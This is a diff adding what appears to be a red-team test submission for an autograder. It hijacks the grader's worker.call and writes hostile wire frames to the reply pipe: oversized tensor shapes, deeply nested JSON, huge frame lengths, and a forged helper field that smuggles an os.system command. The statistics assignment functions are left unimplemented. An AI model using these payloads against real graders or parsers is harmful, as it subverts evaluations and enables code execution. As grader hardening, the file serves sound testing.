@@ -1,0 +1,84 @@
+"""ATTACK: hostile wire frames written straight to the reply pipe — a tensor header whose
+shape/dtype/offset do not match its bytes, absurd shapes, a 16 MB deeply nested JSON
+header, ints like "0x10", a forged ``helper`` node (a grader-provided object the grader
+would rebuild), NaN in JSON, a frame length of 2**63, and junk between frames.
+
+honest part: 0 points
+"""
+import json
+import os
+import struct
+
+import autograder.worker as worker
+
+REPLY_FD = int(os.environ["GMGRADE_FDS"].split(",")[1])
+_n = [0]
+
+
+def _frame(header, blob=b""):
+    h = header if isinstance(header, bytes) else json.dumps(header).encode()
+    data = struct.pack(">Q", len(h)) + h + blob
+    return struct.pack(">Q", len(data)) + data
+
+
+def _deep(n):
+    return b'{"k": "list", "v": [' * 0 + b"[" * n + b"]" * n
+
+
+PAYLOADS = [
+    lambda: _frame({"k": "dict", "v": [["ev", {"k": "str", "v": "result"}], ["value", {
+        "k": "tensor", "dtype": "float64", "shape": [2 ** 40, 2 ** 40], "device": "cpu", "off": 0,
+        "n": 8, "sub": None}]]}, b"\0" * 8),
+    lambda: _frame({"k": "dict", "v": [["ev", {"k": "str", "v": "result"}], ["value", {
+        "k": "tensor", "dtype": "float64", "shape": [3, 0, 2 ** 62, 2 ** 62], "device": "cpu",
+        "off": 0, "n": 0, "sub": None}]]}),
+    lambda: _frame({"k": "dict", "v": [["ev", {"k": "str", "v": "result"}], ["value", {
+        "k": "int", "v": "0x10"}]]}),
+    lambda: _frame(_deep(200_000)),
+    lambda: _frame({"k": "dict", "v": [["ev", {"k": "str", "v": "result"}], ["value", {
+        "k": "helper", "name": "__import__('os').system('touch /tmp/rt-pwned')",
+        "params": {"k": "dict", "v": [["name", {"k": "str", "v": "x"}]]}}]]}),
+    lambda: _frame(b'{"k": "float", "v": NaN}'),
+    lambda: struct.pack(">Q", 2 ** 63) + b"junk",
+    lambda: _frame({"k": "dict", "v": [["ev", {"k": "str", "v": "error"}],
+                                        ["type", {"k": "str", "v": "X" * 900_000}],
+                                        ["message", {"k": "str", "v": "Y" * 900_000}],
+                                        ["traceback", {"k": "str", "v": "Z" * 900_000}]]}),
+    lambda: _frame({"k": "dict", "v": [["ev", {"k": "str", "v": "done"}], ["status", {
+        "k": "dict", "v": [["kind", {"k": "str", "v": "signal"}],
+                           ["name", {"k": "str", "v": "W" * 900_000}]]}]]}),
+]
+
+
+def _call(module, msg):
+    i = _n[0] % len(PAYLOADS)
+    _n[0] += 1
+    os.write(REPLY_FD, PAYLOADS[i]())
+    os._exit(0)
+
+
+worker.call = _call
+
+
+def bernoulli_log_likelihood(theta, x):
+    raise NotImplementedError
+
+
+def bernoulli_mle(x):
+    raise NotImplementedError
+
+
+def gaussian_log_pdf(x, mu, var):
+    raise NotImplementedError
+
+
+def gaussian_mle(x):
+    raise NotImplementedError
+
+
+def mvn_mle(x):
+    raise NotImplementedError
+
+
+def mvn_log_pdf(x, mu, cov):
+    raise NotImplementedError("write your solution here")
